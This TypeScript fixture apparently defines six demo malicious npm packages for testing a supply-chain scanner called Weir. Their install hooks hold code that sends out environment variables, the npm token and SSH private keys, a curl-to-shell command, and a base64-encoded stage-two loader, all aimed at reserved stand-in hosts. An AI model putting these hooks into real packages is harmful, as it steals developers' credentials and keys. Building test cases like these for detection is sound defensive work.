import type { Publication } from './publication.ts';

/**
 * Attacks for the demo: written for Weir, inert, and aimed at reserved names only (`.example`, `.invalid`, `.test`,
 * 203.0.113.0/24). Each imitates one trick that is seen on npm.
 */
export interface DemoAttack {
  /** What it does, in a reader's words. */
  readonly about: string;
  readonly publication: Publication;
}

const NEWCOMER = { name: 'dev-7741', email: 'dev-7741@mail.example' };

function base64(text: string): string {
  return Buffer.from(text).toString('base64');
}

const STEAL_ENV = `const https = require('https');
const body = JSON.stringify(process.env);
const request = https.request('https://collect.example/v1/env', { method: 'POST' });
request.write(body);
request.end();
`;

const STEAL_NPMRC = `const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
const token = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
const request = https.request({ host: 'exfil.weir.test', path: '/t', method: 'POST' });
request.end(token);
`;

const STAGE_TWO = `require('https').get('https://stage.example/two.js', (r) => {
  let code = '';
  r.on('data', (part) => (code += part));
  r.on('end', () => eval(code));
});`;

const HIDDEN_LOADER = `const parts = '${base64(STAGE_TWO)}';
const run = new Function('require', Buffer.from(parts, 'base64').toString());
run(require);
`;

const STEAL_KEYS = `import { readFile, readdir } from 'node:fs/promises';
import { homedir } from 'node:os';
const dir = homedir() + '/.ssh';
for (const name of await readdir(dir)) {
  const key = await readFile(dir + '/' + name, 'utf8');
  await fetch('http://203.0.113.7:8080/k', { method: 'POST', body: key });
}
`;

/** Six attacks in the order in which the demo publishes them. */
export const DEMO_ATTACKS: readonly DemoAttack[] = [
  {
    about: 'preinstall sends all environment variables away',
    publication: {
      name: 'weir-demo-env-collector',
      version: '1.0.0',
      manifest: {
        description: 'Tiny config helper',
        scripts: { preinstall: 'node setup.js' },
        main: 'index.js',
      },
      files: { 'setup.js': STEAL_ENV, 'index.js': 'module.exports = {};\n' },
      publisher: NEWCOMER,
    },
  },
  {
    about: 'postinstall decodes base64 text and runs it',
    publication: {
      name: 'weir-demo-decode-run',
      version: '2.3.1',
      manifest: {
        scripts: { postinstall: `node -e "eval(Buffer.from('${base64(STAGE_TWO)}','base64').toString())"` },
      },
      files: { 'index.js': 'module.exports = (a) => a;\n' },
      publisher: NEWCOMER,
    },
  },
  {
    about: 'install hook pipes a downloaded script into a shell',
    publication: {
      name: '@weir-demo/curl-shell',
      version: '0.0.7',
      manifest: { scripts: { install: 'curl -fsSL https://x.example/i.sh | sh' } },
      files: { 'index.js': 'module.exports = {};\n' },
      publisher: NEWCOMER,
    },
  },
  {
    about: 'postinstall sends the npm token to a listed exfiltration host',
    publication: {
      name: 'weir-demo-token-thief',
      version: '1.1.0',
      manifest: { scripts: { postinstall: 'node lib/after.js' } },
      files: { 'lib/after.js': STEAL_NPMRC, 'index.js': 'exports.ok = true;\n' },
      publisher: NEWCOMER,
    },
  },
  {
    about: 'a new version of a known package gains a hidden loader in its postinstall',
    publication: {
      name: 'weir-demo-colors',
      version: '4.0.2',
      manifest: { scripts: { postinstall: 'node ./scripts/build.js' }, main: 'index.js' },
      files: { 'scripts/build.js': HIDDEN_LOADER, 'index.js': 'exports.red = (s) => s;\n' },
      publisher: NEWCOMER,
    },
  },
  {
    about: 'preinstall posts private SSH keys to an address',
    publication: {
      name: 'weir-demo-ssh-reader',
      version: '0.1.0',
      manifest: { type: 'module', scripts: { preinstall: 'node ./start.mjs' } },
      files: { 'start.mjs': STEAL_KEYS, 'index.js': 'export const ready = true;\n' },
      publisher: NEWCOMER,
    },
  },
];
